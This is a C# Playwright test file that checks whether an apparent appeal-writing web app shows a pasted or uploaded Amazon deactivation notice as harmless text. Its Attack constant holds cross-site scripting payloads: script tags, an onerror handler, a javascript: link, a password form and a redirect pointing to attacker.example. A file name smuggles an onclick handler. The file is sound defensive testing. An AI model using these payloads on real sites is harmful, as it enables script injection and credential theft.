using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Reprieve.Browser.Tests.Hazards;

/// <summary>A notice that attacks the page it is shown on.</summary>
public class HostileNoticeTests(Chromium chromium)
{
    private const string Attack = """
        <script>window.hacked = 1; alert('script')</script>
        <img src="x" onerror="window.hacked = 2; alert('event')">
        <style>body { display: none }</style><link rel="stylesheet" href="http://attacker.example/x.css">
        </pre></textarea></blockquote></main><a href="javascript:window.hacked=3">Reactivate</a>
        <form action="http://attacker.example/"><input name="password"></form>
        <meta http-equiv="refresh" content="0;url=http://attacker.example/">
        """;

    private const string Notice = """
        Hello,

        Your Amazon seller account has been deactivated because of your late shipment rate.
        Please send us a plan of action within 7 days.

        """;

    private static readonly string[] Pages = ["", "/why", "/review", "/answer", "/send"];

    [Fact]
    public async Task A_pasted_one_is_shown_as_the_text_it_is()
    {
        await using Bench bench = await Bench.StartAsync(chromium);
        IPage page = await bench.OpenAsync("/new");
        await page.Locator("textarea[name=text]").FillAsync(Notice + Attack);
        await page.Locator("form[action='/new/text'] button").ClickAsync();
        await page.WaitForURLAsync(url => url.Contains("/cases/", StringComparison.Ordinal));

        await IsHarmlessAsync(bench, page);
        await page.GotoAsync(page.Url.Split('?')[0].Replace("/send", "", StringComparison.Ordinal) + "/why");
        await Expect(page.Locator(".notice .passage")).ToContainTextAsync("<script>window.hacked = 1");
    }

    [Fact]
    public async Task An_HTML_page_with_scripts_styles_and_half_a_megabyte_in_one_word_is_harmless()
    {
        using var folder = new TemporaryFolder();
        string file = Path.Combine(folder.Path, "<b onclick=alert(1)>notice.html".Replace('<', '(').Replace('>', ')'));
        string html =
            $"<html><body><p>{Notice.ReplaceLineEndings("<br>")}</p>{Attack}<p>{new string('W', 500_000)}</p></body></html>";
        await File.WriteAllTextAsync(file, html, TestContext.Current.CancellationToken);
        await using Bench bench = await Bench.StartAsync(chromium);
        IPage page = await bench.OpenAsync("/new");
        await page.Locator("#files").SetInputFilesAsync(file);
        await page.Locator(".filedrop:has(#files) button[type=submit]").ClickAsync();
        await page.WaitForURLAsync(url => url.Contains("/cases/", StringComparison.Ordinal));

        await IsHarmlessAsync(bench, page);
    }

    private static async Task IsHarmlessAsync(Bench bench, IPage page)
    {
        string home = page.Url.Split('?')[0];
        foreach (string step in Pages)
        {
            await page.GotoAsync(home + step);
            await Expect(page.Locator(".waiting-box")).ToHaveCountAsync(0);
            (await page.EvaluateAsync<bool>("() => 'hacked' in window")).ShouldBeFalse();
            foreach (IFrame frame in page.Frames.Where(frame => frame != page.MainFrame))
            {
                string mail = await frame.ContentAsync();
                mail.ShouldContain("<p>");
                mail.ShouldNotContain("<script");
                mail.ShouldNotContain("attacker");
            }
            await Expect(page.Locator("main img[src='x'], main style, main script, a[href^='javascript:']"))
                .ToHaveCountAsync(0);
            await Expect(page.Locator("[action*='attacker'], [href*='attacker'], [onerror]")).ToHaveCountAsync(0);
            await Expect(page.Locator("h1")).ToBeVisibleAsync();
            (await page.EvaluateAsync<bool>("() => document.documentElement.scrollWidth <= innerWidth")).ShouldBeTrue();
        }

        bench.Problems.ShouldBeEmpty();
    }
}
